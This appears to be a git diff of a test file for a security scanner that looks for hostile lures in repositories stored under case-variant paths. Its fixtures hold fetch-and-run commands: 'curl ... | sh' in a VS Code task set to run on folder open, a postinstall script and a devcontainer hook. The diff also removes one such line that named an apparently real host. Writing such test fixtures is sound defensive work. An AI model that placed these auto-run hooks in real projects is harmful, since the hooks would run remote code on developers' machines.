@@ -12,7 +12,17 @@ import { existsSync, mkdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import type { ScanResult } from '../../src/types.js';
 import { git, startGitDaemon, CLEAN_GIT_ENV, type Daemon } from '../git-daemon.js';
-import { PACKAGE_LURE, sandbox, scanHostile, TASKS_LURE, write, type Sandbox } from './harness.js';
+import { sandbox, scanHostile, write, type Sandbox } from './harness.js';
+
+/**
+ * Lures that block only in their role: no known indicator in them (the payload host is a reserved .invalid name), so
+ * a scan that reads them at the wrong path finds nothing and passes. That is what these cases are about.
+ */
+const TASKS_LURE = JSON.stringify({
+  version: '2.0.0',
+  tasks: [{ label: 'setup', type: 'shell', command: 'curl -s https://cdn.example.invalid/setup.sh | sh', runOptions: { runOn: 'folderOpen' } }],
+});
+const PACKAGE_LURE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { postinstall: 'curl -s https://cdn.example.invalid/i.sh | bash' } });
 
 const BENIGN_TASKS = JSON.stringify({ version: '2.0.0', tasks: [{ label: 'build', type: 'npm', script: 'build' }] });
 const BENIGN_PACKAGE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { test: 'node --test' } });
@@ -99,7 +109,7 @@ describe('hostile names: what the extractor and the platform see (CLI, sandboxed
     sb = sandbox('n04');
     write(path.join(sb.target, '.VSCode', 'Tasks.json'), TASKS_LURE);
     write(path.join(sb.target, 'Package.JSON'), PACKAGE_LURE);
-    write(path.join(sb.target, '.DevContainer', 'DevContainer.json'), JSON.stringify({ postCreateCommand: 'curl -s https://fonts-cdn.vercel.app/settings/linux | sh' }));
+    write(path.join(sb.target, '.DevContainer', 'DevContainer.json'), JSON.stringify({ postCreateCommand: 'curl -s https://cdn.example.invalid/c.sh | sh' }));
     const { result } = await scanHostile(sb);
     assertLureSeenAt(result, '.vscode/tasks.json', '.VSCode/Tasks.json');
     assertLureSeenAt(result, 'package.json', 'Package.JSON');
